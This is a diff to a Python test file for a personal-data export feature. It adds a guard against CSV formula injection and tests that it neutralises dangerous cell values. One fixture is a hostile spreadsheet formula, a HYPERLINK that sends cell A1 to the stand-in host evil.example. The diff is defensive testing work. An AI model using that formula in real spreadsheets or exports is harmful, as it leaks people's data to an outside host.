@@ -26,6 +26,7 @@ from exports.models import ExportPackage, ExportStatus
 from exports.statements import policy_statements
 from policies.models import Organization
 from requests_app.models import EventKind, SubjectRequest
+from subject_data.records import FORMULA_GUARD, FORMULA_START
 from subject_data.registry import registry
 from subject_data.schema import data_schema
 from tests.factories import (
@@ -140,6 +141,9 @@ def _csv_text(value: Any) -> str:
         return ""
     if isinstance(value, bool):
         return "true" if value else "false"
+    if isinstance(value, str) and value[:1] in FORMULA_START:
+        # Text that starts like a formula (a phone number's "+"); no amount here is negative.
+        return FORMULA_GUARD + value
     return str(value)
 
 
@@ -358,6 +362,7 @@ def test_the_database_and_python_write_the_same_records(organization: Organizati
     LoginFactory.create(user=user, ip_address="2001:db8::1", user_agent="")
     package = ExportPackage.objects.create(request=request, kind="access")
     written = {}
+    raw = {}
 
     for vendor in ("postgresql", "sqlite"):
         sink = io.BytesIO()
@@ -369,10 +374,75 @@ def test_the_database_and_python_write_the_same_records(organization: Organizati
             for name in categories
         }
         written[vendor] = (categories, csvs)
+        raw[vendor] = {name: archive.read(f"{name}.csv") for name in categories}
 
     assert written["postgresql"] == written["sqlite"]
+    assert raw["postgresql"] == raw["sqlite"]
     assert written["postgresql"][0]["contact"][1]["fields"]["last_name"] == "Two\nLines"
     assert ["2001:db8::1" in row for row in written["postgresql"][1]["technical"]].count(True) == 1
+
+
+def test_csv_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised_by_both_writers(
+    organization: Organization,
+) -> None:
+    request = _request(organization)
+    user = AccountUserFactory.create(
+        account__organization=organization,
+        account__company_name="\rCR Trading",
+        account__registered_address="\tTabbed Street",
+        email="owner@shop.example",
+        first_name="@SUM(A1:A9)",
+        last_name="-2+3",
+        phone="+998 90 123 45 67",
+        role="owner",
+    )
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    SaleFactory.create(account=user.account, total="-5.00", customer_name=formula)
+    package = ExportPackage.objects.create(request=request, kind="access")
+
+    for vendor in ("postgresql", "sqlite"):
+        sink = io.BytesIO()
+        ArchiveWriter(package, generated_at=timezone.now(), vendor=vendor).write(sink)
+        archive = zipfile.ZipFile(sink)
+        cells = {
+            (row["model"], name): value
+            for category in _data(archive)["categories"]
+            for row in csv.DictReader(
+                io.StringIO(archive.read(f"{category}.csv").decode("utf-8"), newline="")
+            )
+            for name, value in row.items()
+            if value
+        }
+        records = {
+            record["model"]: record["fields"]
+            for records in _data(archive)["categories"].values()
+            for record in records
+        }
+
+        assert cells[("pos.sale", "customer_name")] == "'" + formula, vendor
+        assert cells[("pos.accountuser", "first_name")] == "'@SUM(A1:A9)", vendor
+        assert cells[("pos.accountuser", "last_name")] == "'-2+3", vendor
+        assert cells[("pos.accountuser", "phone")] == "'+998 90 123 45 67", vendor
+        assert cells[("pos.account", "company_name")] == "'\rCR Trading", vendor
+        assert cells[("pos.account", "registered_address")] == "'\tTabbed Street", vendor
+        # A negative amount is a number, not a formula; data.json keeps every exact value.
+        assert cells[("pos.sale", "total")] == "-5.00", vendor
+        assert records["pos.sale"]["customer_name"] == formula
+        assert records["pos.sale"]["total"] == "-5.00"
+        assert records["pos.accountuser"]["last_name"] == "-2+3"
+
+
+def test_the_summary_and_manifest_say_how_csv_cells_are_neutralised(
+    organization: Organization,
+) -> None:
+    _package, archive, _content = _build(_request(organization))
+
+    manifest = json.loads(archive.read("manifest.json"))
+    summary = archive.read("summary.html").decode("utf-8")
+
+    assert manifest["csv"]["formula_guard"] == "'"
+    assert set(manifest["csv"]["guarded_starts"]) == {"=", "+", "-", "@", "\t", "\r"}
+    assert "does not run it as a formula" in summary
 
 
 @pytest.mark.parametrize(
